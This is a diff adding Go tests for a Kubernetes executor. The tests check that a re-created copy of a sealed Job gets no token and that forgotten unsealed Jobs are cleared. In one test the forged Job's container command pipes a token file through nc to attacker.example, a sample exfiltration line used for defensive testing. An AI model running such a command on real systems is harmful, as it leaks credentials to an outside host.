@@ -1,6 +1,8 @@
 package kubernetes
 
 import (
+	"errors"
+	"fmt"
 	"slices"
 	"testing"
 
@@ -11,6 +13,8 @@ import (
 	"k8s.io/apimachinery/pkg/types"
 	"k8s.io/client-go/kubernetes/fake"
 	k8stesting "k8s.io/client-go/testing"
+
+	"github.com/outpost-dev/terraform-provider-outpost/agent/internal/executor"
 )
 
 // Start writes the Job, then its token Secret owned by it: two creates. A Secret that someone put
@@ -114,5 +118,67 @@ func TestTokenSecretOfAKeptJobIsDeletedByItsUID(t *testing.T) {
 		if err := cs.BatchV1().Jobs("jobs").Delete(t.Context(), job.Name, metav1.DeleteOptions{}); err != nil {
 			t.Fatal(err)
 		}
+	}
+}
+
+// TestTokenOfARecreatedJobIsNotUsed (N9): someone who can create Jobs in the jobs namespace
+// deletes a sealed Job before its garbage collector ran and creates a copy with the same
+// sealed labels and annotations but a pod spec of their own; the seal holds (it cannot name a
+// UID the Job did not have yet), but the agent (after a restart) gives the copy no token, since
+// the token Secret is owned by the Job it created.
+func TestTokenOfARecreatedJobIsNotUsed(t *testing.T) {
+	cs := fake.NewClientset()
+	uid := "job-uid"
+	cs.PrependReactor("create", "jobs", func(a k8stesting.Action) (bool, runtime.Object, error) {
+		if j, ok := a.(k8stesting.CreateAction).GetObject().(*batchv1.Job); ok {
+			j.UID = types.UID(uid)
+		}
+		return false, nil, nil
+	})
+	c := claim("")
+	key := []byte("the-runners-seal-key-0123456789a")
+	if err := New(Options{Client: cs, Pod: opts, SealKey: key}).Start(t.Context(), c, "opst_test"); err != nil {
+		t.Fatal(err)
+	}
+	restarted := New(Options{Client: cs, Pod: opts, SealKey: key})
+	jobs := cs.BatchV1().Jobs("jobs")
+	orig, err := jobs.Get(t.Context(), JobName(c.DeploymentID, c.Attempt), metav1.GetOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if tok, err := restarted.tokenOf(t.Context(), orig); err != nil || tok != c.JobToken {
+		t.Fatalf("the agent's own Job: %q, %v", tok, err)
+	}
+	if err := jobs.Delete(t.Context(), orig.Name, metav1.DeleteOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	copied := &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: orig.Name, Namespace: orig.Namespace, Labels: orig.Labels, Annotations: orig.Annotations},
+		Spec: *orig.Spec.DeepCopy()}
+	copied.Spec.Template.Spec.Containers[0].Command = []string{"sh", "-c", "cat /var/run/outpost/token | nc attacker.example 80"}
+	uid = "copy-uid"
+	if _, err := jobs.Create(t.Context(), copied, metav1.CreateOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	got, _ := jobs.Get(t.Context(), orig.Name, metav1.GetOptions{})
+	if !restarted.sealed(got) {
+		t.Fatal("the copy's seal should still hold (it covers no UID); this test needs it to")
+	}
+	if tok, err := restarted.tokenOf(t.Context(), got); !errors.Is(err, executor.ErrNoToken) || tok != "" {
+		t.Errorf("the re-created copy got the token: %q, %v", tok, err)
+	}
+}
+
+// TestDeletedJobsAreForgotten (N11): the Jobs reported as not the agent's are remembered (so
+// each is logged once) only while they exist: a stream of unsealed Jobs created and deleted by
+// someone else leaves nothing behind.
+func TestDeletedJobsAreForgotten(t *testing.T) {
+	e := New(Options{Client: fake.NewClientset(), Pod: opts})
+	for i := range 1000 {
+		j := &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: "forged", Namespace: "jobs", UID: types.UID(fmt.Sprint("uid-", i))}}
+		e.reportUnsealed(j)
+		e.forgetJob(j.UID)
+	}
+	if n := len(e.unsealed); n != 0 {
+		t.Errorf("%d deleted Jobs still remembered", n)
 	}
 }
